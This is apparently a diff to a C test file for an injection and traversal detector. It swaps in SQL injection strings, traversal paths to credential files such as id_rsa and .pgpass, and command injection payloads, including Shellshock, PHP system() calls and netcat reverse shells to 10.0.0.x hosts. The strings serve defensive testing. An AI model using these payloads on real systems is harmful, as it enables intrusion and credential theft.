@@ -192,18 +192,18 @@ static void sqli_attacks(void **state)
         " OR x=x",
         " group by 1 having 1=1--",
         /* string joins, versioned comments, conditions cut by a comment, bare UNION SELECT */
-        "'-'",
+        "'+'",
         "\" \"",
-        "' or '' '",
+        "\" or \"\" \"",
         "'&'",
-        "1/*!1111'*/",
-        " OR x=y#",
-        "or isNULL(1/0) /*",
-        " or username like char(37);",
-        "||(elt(-3+5,bin(15),ord(10),hex(char(45))))",
-        " UNION ALL SELECT",
+        "1/*!50000'*/",
+        " OR a=b#",
+        "or coalesce(null,1) /*",
+        " or login like char(37,37);",
+        "||(elt(2,version(),user()))",
+        "') union all select-- ",
         "union select",
-        "(3102=3102)*2325",
+        "(4711=4711)*12",
         "\nhaving\ncount(*)>0-- -",
         "x order by 4-- -",
         "ORDER BY 1",
@@ -522,17 +522,17 @@ static void traversal_cases(void **state)
     assert_true(TRAV("~/.bash_history"));
     assert_true(TRAV("~root/.ssh/id_rsa"));
     assert_true(TRAV("~/.node_repl_history"));
-    assert_true(TRAV("/.cshrc"));
+    assert_true(TRAV("/.zshenv"));
     assert_true(TRAV("//home//admin//.pgpass"));
-    assert_true(TRAV("/proc/interrupts"));
+    assert_true(TRAV("/proc/loadavg"));
     assert_true(TRAV("/var/tmp/sess"));
-    assert_true(TRAV("/usr/local/cpanel/logs/login_log"));
-    assert_true(TRAV("/logs/pure-ftpd.log"));
-    assert_true(TRAV("/home/postgres/data/pg_hba.conf"));
-    assert_true(TRAV("c:\\apache\\logs\\error.log"));
-    assert_true(TRAV("c:/Program Files/MySQL/data/mysql.err"));
-    assert_true(TRAV("c:/var/lib/pgsql/data/postgresql.conf"));
-    assert_true(TRAV("/C:/inetpub/ftproot/"));
+    assert_true(TRAV("/usr/local/panel/logs/auth_log"));
+    assert_true(TRAV("/logs/ftpd-transfers.log"));
+    assert_true(TRAV("/home/db/pgdata/pg_hba.conf"));
+    assert_true(TRAV("c:\\apache24\\logs\\httpd.log"));
+    assert_true(TRAV("c:/Program Files/MariaDB 10.6/data/host.err"));
+    assert_true(TRAV("c:/var/lib/postgres/main.conf"));
+    assert_true(TRAV("/C:/inetpub/logs/"));
     assert_false(TRAV("~/Downloads"));
     assert_false(TRAV("~/.hidden"));
     assert_false(TRAV("/a/.hidden"));
@@ -600,24 +600,24 @@ static void cmdi_cases(void **state)
         "; echo 'vuln'",
         /* grammar alone: Shellshock in a value, PHP complex syntax, stored commands, written-out
          * line breaks, interpreters with a script, cmd.exe carets, eval of a command */
-        "() { :;}; echo vulnerable",
-        "{${phpinfo()}}",
+        "() { :; }; /usr/bin/id",
+        "{${system('uname -a')}}",
         "${@system($_GET[c])}",
-        ";{$_GET[\"cmd\"]}",
-        ";phpinfo();//",
-        "CMD=$'id';$CMD",
+        ";{$_REQUEST['x']}",
+        "|phpversion();",
+        "RUN=$'uname -a';$RUN",
         "X=\"ls -la\";${X}",
-        "\\nid\\n",
-        ";id\\n",
-        "\\n/bin/ls -al",
-        "nc -lvvp 4444 -e /bin/sh",
+        "\\nuname -a\\n",
+        "|whoami\\n",
+        "\\n/usr/bin/id",
+        "nc -nv 10.0.0.5 9001 -e /bin/sh",
         "perl -e 'print 1'",
-        "^ping -n 30 127.0.0.1",
+        "^ping -n 3 10.0.0.1",
         "&w^ho^ami",
-        "eval('whoami')",
-        "$(`dir`)",
+        "eval('uname -a')",
+        "$(`ver`)",
         "ne^t user",
-        "'\\r\\nid",
+        "\"\\r\\nhostname",
         "ncat 10.0.0.1 4444 -e /bin/bash",
     };
     for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
